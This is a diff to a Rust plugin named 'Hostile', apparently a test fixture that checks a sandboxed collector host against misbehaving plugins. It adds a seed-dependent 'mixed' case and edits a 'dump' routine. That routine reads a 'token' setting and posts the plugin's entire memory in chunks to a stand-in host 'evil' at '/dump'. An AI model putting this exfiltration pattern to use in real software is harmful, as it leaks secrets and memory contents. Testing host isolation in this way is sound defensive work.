@@ -7,7 +7,7 @@ mod json;
 use std::hint::black_box;
 
 use collector_sdk::http::{Request, fetch_all};
-use collector_sdk::{Collector, Fault, Reason, Sheet, emit, futures, log, settings};
+use collector_sdk::{Collector, Fault, Reason, Sheet, emit, log, settings};
 
 pub struct Hostile;
 
@@ -78,6 +78,7 @@ impl Collector for Hostile {
             }
             "dump" => dump().await,
             "wall-clock" => one("hostile.value", collector_sdk::now().as_second() as f64, vec![]),
+            "mixed" => mixed(number),
             "fault" => Err(Fault::new(Reason::UpstreamError, "the upstream said no")),
             "emit-then-fault" => {
                 emit(values(number))?;
@@ -105,6 +106,21 @@ fn one(series: &str, value: f64, tags: Vec<String>) -> Result<(), Fault> {
 fn twice() -> Result<(), Fault> {
     emit(values(2))?;
     emit(values(1))
+}
+
+/// Works on a map whose order depends on the random seed, and emits what it finds.
+fn mixed(number: usize) -> Result<(), Fault> {
+    let mut seen = std::collections::HashMap::new();
+    for n in 0..number {
+        *seen.entry(n * 7919 % 1009).or_insert(0usize) += n;
+        if n % 1000 == 0 {
+            let key = seen.iter().find(|(_, value)| **value > n).map_or(0, |(key, _)| *key);
+            let mut sheet = Sheet::default();
+            sheet.put_tagged("hostile.value", key as f64, vec![format!("n:{n}")]);
+            emit(sheet)?;
+        }
+    }
+    Ok(())
 }
 
 /// Hands over point after point, whatever the host says.
@@ -193,8 +209,8 @@ async fn post(number: usize) -> Result<(), Fault> {
 
 /// Fetches, so that whatever the host would let slip has passed by, and then posts all of its own memory.
 async fn dump() -> Result<(), Fault> {
-    let _ = Request::get("evil", settings::text("path")?).send().await;
-    let _ = settings::get("token");
+    let answer = Request::get("evil", settings::text("path")?).send().await;
+    let setting = settings::get("token");
     let bytes = core::arch::wasm32::memory_size(0) * 65536;
     let mut sent = 0;
     while sent < bytes {
@@ -203,7 +219,7 @@ async fn dump() -> Result<(), Fault> {
         sent += chunk.len();
         Request::post("evil", "/dump").bytes(chunk).fetch().await?;
     }
-    let _ = futures::future::ready(()).await;
+    black_box((answer.is_ok(), setting));
     emit(values(1))
 }
 
